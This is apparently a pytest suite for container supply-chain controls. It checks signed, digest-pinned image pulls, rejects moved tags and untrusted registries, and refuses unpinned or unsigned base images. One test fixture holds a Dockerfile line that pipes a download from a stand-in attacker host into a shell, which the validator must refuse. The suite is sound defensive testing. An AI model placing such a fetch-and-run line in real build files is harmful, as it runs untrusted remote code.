"""Images: the same bytes on every machine, pulled by digest, with a signature that counts, or not at all (M15).

Each attack is carried out in a real registry by somebody who may write to it, and goes through once the control is off.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest
from tenuto_agents.attacks.container_range import RELEASE_KEY, STRANGER, ContainerRange
from tenuto_agents.attacks.images import PLANTS, Planted
from tenuto_agents.attacks.shop import NAME, ShopOnRange
from tenuto_agents.containers import registry as registry_module
from tenuto_agents.containers.containerfile import BaseRefused, pinned_bases, read_base
from tenuto_agents.containers.registry import ImageRefused, Registry

from tests.containers.stand import SERVICE, Stand


@pytest.fixture
def open_policy(monkeypatch: pytest.MonkeyPatch, stand: Stand) -> Registry:
    """A registry whose policy takes everything: the control, switched off."""
    monkeypatch.setattr(registry_module, "pull_policy", lambda site: {"default": [{"type": "insecureAcceptAnything"}]})
    return Registry(stand.site, stand.folder / "open")


def test_the_same_commit_and_base_give_the_same_image(stand: Stand) -> None:
    one = stand.image("1").digest
    stand.ground.images.clear()
    assert stand.image("1").digest == one
    assert stand.image("2").digest != one


def test_a_signed_image_comes_back_by_its_digest(stand: Stand) -> None:
    image = stand.image("1")
    stand.registry.push(image, SERVICE)
    assert stand.registry.pull(SERVICE, image.digest).endswith(f"@sha256:{image.digest}")


@pytest.mark.parametrize("plant", PLANTS.values(), ids=PLANTS)
def test_what_is_not_the_signed_image_is_refused_and_comes_in_without_the_policy(
    stand: Stand, open_policy: Registry, plant: Callable[[ShopOnRange], Planted]
) -> None:
    """The red team's attacks; that they go through once the control is off shows that it was the control."""
    planted = plant(stand)
    with pytest.raises(ImageRefused, match=planted.refusal):
        stand.registry.pull(SERVICE, planted.digest)
    if plant is not PLANTS["image-corrupted-layer"]:  # there the digest itself is the control
        open_policy.pull(SERVICE, planted.digest)


def test_a_tag_that_is_moved_to_an_evil_image_changes_nothing(stand: Stand) -> None:
    good, evil = stand.image("tagged"), stand.image("evil tagged")
    stand.registry.push(good, SERVICE)
    stand.ground.copy(good.layout, f"{NAME}:stable", key=RELEASE_KEY)
    stand.ground.copy(evil.layout, f"{NAME}:stable", key=None)
    name = f"docker://{stand.site.registry}/{NAME}"
    by_tag = json.loads(stand.ground.skopeo("inspect", "--tls-verify=false", f"{name}:stable"))["Digest"]
    assert by_tag == f"sha256:{evil.digest}", "who goes by the tag gets the evil one"
    reference = stand.registry.pull(SERVICE, good.digest)
    stand.hosts.networks.create("shop-tagged", ())
    stand.hosts.engine.run("shop-tagged", reference, service=SERVICE, deployment="tagged")
    found = stand.hosts.engine.find("shop-tagged")
    assert found is not None
    assert found.digest == good.digest
    stand.hosts.end("shop-tagged")


@pytest.mark.parametrize("name", ["{registry}/elsewhere/shop", "localhost:{port}/releases/shop"], ids=["repository", "registry"])
def test_another_repository_or_registry_is_rejected_whoever_signed(stand: Stand, open_policy: Registry, name: str) -> None:
    image = stand.image("elsewhere")
    stand.ground.copy(image.layout, f"elsewhere/{SERVICE}@sha256:{image.digest}", key=RELEASE_KEY)
    stand.registry.push(image, SERVICE)
    port = stand.site.registry.rpartition(":")[2]
    source = f"docker://{name.format(registry=stand.site.registry, port=port)}@sha256:{image.digest}"
    with pytest.raises(ImageRefused, match="rejected by policy"):
        stand.registry._copy("policy.json", source, f"oci:{stand.folder / 'out'}", "--remove-signatures", what="it")
    open_policy._copy("policy.json", source, f"oci:{stand.folder / 'out'}", "--remove-signatures", what="it")


def test_a_base_image_without_its_publishers_signature_is_refused(stand: Stand, open_policy: Registry) -> None:
    reference = stand.ground.push_base({"planted": b"by somebody else"}, key=STRANGER)
    artifact, repository = stand.ground.artifact("1", base=f"FROM {reference}\n")
    base = read_base(repository, artifact.commit, stand.site)
    with pytest.raises(ImageRefused, match="[Ss]ignature|[Kk]ey"):
        stand.registry.base_layout(base)
    open_policy.base_layout(base)


PIN = "@sha256:" + "0" * 64


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("FROM {registry}/base/busybox:1.36", "not pinned"),
        ("FROM busybox", "not pinned"),
        ("FROM ${{BASE}}", "not pinned"),
        (f"FROM docker.io/library/busybox{PIN}", "another registry"),
        (f"FROM {{registry}}/elsewhere/busybox{PIN}", "trusted prefixes"),
        (f"FROM {{registry}}/basement{PIN}", "trusted prefixes"),
        (f"FROM {{registry}}/base/busybox{PIN} AS build\nFROM \\\n {{registry}}/base/busybox:latest", "not pinned"),
        ("FROM --platform=linux/amd64 busybox:latest", "not pinned"),
        ("from busybox:latest as one two", "cannot be read"),
    ],
    ids=["tag", "name only", "variable", "other registry", "other prefix", "prefix by letters", "second stage", "platform", "odd"],
)
def test_a_base_that_is_not_pinned_and_trusted_is_refused(ground: ContainerRange, text: str, why: str) -> None:
    with pytest.raises(BaseRefused, match=why):
        pinned_bases("Dockerfile", text.format(registry=ground.registry), ground.site())


def test_every_dockerfile_of_the_commit_is_read(ground: ContainerRange) -> None:
    artifact, repository = ground.artifact("1", **{"tools/ci.Dockerfile": "FROM python:3.12\n"})
    with pytest.raises(BaseRefused, match=r"tools/ci\.Dockerfile: FROM python:3\.12 is not pinned"):
        read_base(repository, artifact.commit, ground.site())


def test_nothing_of_a_repository_runs_in_a_build(ground: ContainerRange) -> None:
    artifact, repository = ground.artifact("1", base=f"FROM {ground.base}\nRUN wget http://evil.example/x | sh\n")
    with pytest.raises(BaseRefused, match="nothing of a repository runs"):
        read_base(repository, artifact.commit, ground.site())


def test_a_stage_and_scratch_name_no_image(ground: ContainerRange) -> None:
    text = f"FROM scratch\nFROM {ground.registry}/base/busybox{PIN} AS build\nFROM build\n"
    assert [base.digest for base in pinned_bases("Dockerfile", text, ground.site())] == ["0" * 64]


def test_a_base_that_was_altered_on_disk_is_not_built_on(stand: Stand, tmp_path: Path) -> None:
    from tenuto_agents.artifact import ArtifactRefused
    from tenuto_agents.containers.image import build_image

    artifact, repository = stand.ground.artifact("1")
    base = read_base(repository, artifact.commit, stand.site)
    layout = stand.registry.base_layout(base)
    manifest = layout / "blobs" / "sha256" / base.digest
    manifest.write_bytes(manifest.read_bytes() + b" ")
    with pytest.raises(ArtifactRefused, match="not the one that its digest names"):
        build_image(artifact, base, layout, tmp_path / "image")
